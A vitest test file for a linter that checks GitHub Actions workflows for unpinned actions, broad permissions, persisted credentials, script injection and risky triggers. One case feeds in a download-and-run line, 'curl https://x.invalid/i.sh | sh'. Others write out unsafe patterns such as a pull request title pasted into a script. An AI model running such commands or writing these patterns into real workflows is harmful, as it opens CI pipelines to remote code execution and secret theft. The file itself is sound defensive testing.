import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { lintWorkflow } from '../../scripts/workflows/lint-rules.ts';
import { workflowSchema } from '../../scripts/workflows/workflow-schema.ts';

const pin = '11bd71901bbe5b1630ceea73d27597364c9af683';
const good = `
name: good
on:
  pull_request:
permissions: {}
jobs:
  one:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@${pin}
        with:
          persist-credentials: false
      - name: Build
        env:
          TITLE: \${{ github.event.pull_request.title }}
        run: make build "$TITLE"
`;

/** The good workflow with one thing changed; the change has to be possible. */
function changed(from: string, to: string): string[] {
  expect(good).toContain(from);
  return lintWorkflow(good.replace(from, to));
}

describe('lintWorkflow', () => {
  it('has nothing to say of a good one', () => {
    expect(lintWorkflow(good)).toEqual([]);
  });

  it.each([
    ['a tag instead of a commit', `@${pin}`, '@v4', 'is not pinned by a full commit'],
    ['half a commit', pin, pin.slice(0, 12), 'is not pinned by a full commit'],
    ['no permissions at the top', 'permissions: {}\n', '', 'has to be {} at the top'],
    ['permissions for all jobs', 'permissions: {}', 'permissions: write-all', 'has to be {} at the top'],
    ['a job without permissions of its own', '    permissions:\n      contents: read\n', '', 'it has none of its own'],
    ['a pull request that may push', 'contents: read', 'contents: write', 'may not get contents: write'],
    ['an identity token', 'contents: read', 'id-token: write', 'id-token: write is needed for nothing here'],
    ['credentials left behind', 'persist-credentials: false', 'fetch-depth: 0', 'persist-credentials: has to be false'],
    ['a title in a script', '"$TITLE"', '"${{ github.event.pull_request.title }}"', 'pasted into the script'],
    ['a branch in a script', '"$TITLE"', '${{github.head_ref}}', 'pasted into the script'],
    ['an output in a script', '"$TITLE"', '${{ steps.x.outputs.y }}', 'pasted into the script'],
    ['a secret in a script', '"$TITLE"', '${{ secrets.TOKEN }}', 'a secret is pasted'],
    ['a download run unseen', 'make build "$TITLE"', 'curl https://x.invalid/i.sh | sh', 'a download is run unseen'],
    ['no limit of time', '    timeout-minutes: 5\n', '', 'it may run for six hours'],
    ['rights of the base for strangers', 'pull_request:', 'pull_request_target:', 'with the base'],
    ['a run after a run', 'pull_request:', 'workflow_run:', 'with the base'],
    ['a comment that starts it', 'on:\n  pull_request:', 'on: [issue_comment]', 'with the base'],
    ['something that is no YAML', 'jobs:', 'jobs: [', 'it is no YAML'],
    [
      'the change’s code in a job that may write',
      `contents: read\n    steps:\n      - uses: actions/checkout@${pin}\n        with:\n`,
      'pull-requests: write\n    steps:\n' +
        `      - uses: actions/checkout@${pin}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`,
      'checks out the pull request',
    ],
    ['a job that may write and names no commit', 'contents: read', 'pull-requests: write', 'has to name the base'],
  ])('refuses %s', (_, from, to, problem) => {
    expect(changed(from, to).join('\n')).toContain(problem);
  });
});

describe('the workflows here', () => {
  const folder = join(import.meta.dirname, '../../.github/workflows');
  const schema = workflowSchema();
  it.each(readdirSync(folder))('%s follows the rules and the schema', (name) => {
    const text = readFileSync(join(folder, name), 'utf8');
    expect([...schema.check(text), ...lintWorkflow(text)]).toEqual([]);
  });

  it.each([
    ['a step of two kinds', 'run: make', 'uses: ./x\n        run: make'],
    ['a word that is none', 'runs-on:', 'run-on:'],
  ])('schema refuses %s', (_, from, to) => {
    expect(schema.check(good.replace(from, to))).not.toEqual([]);
  });
});
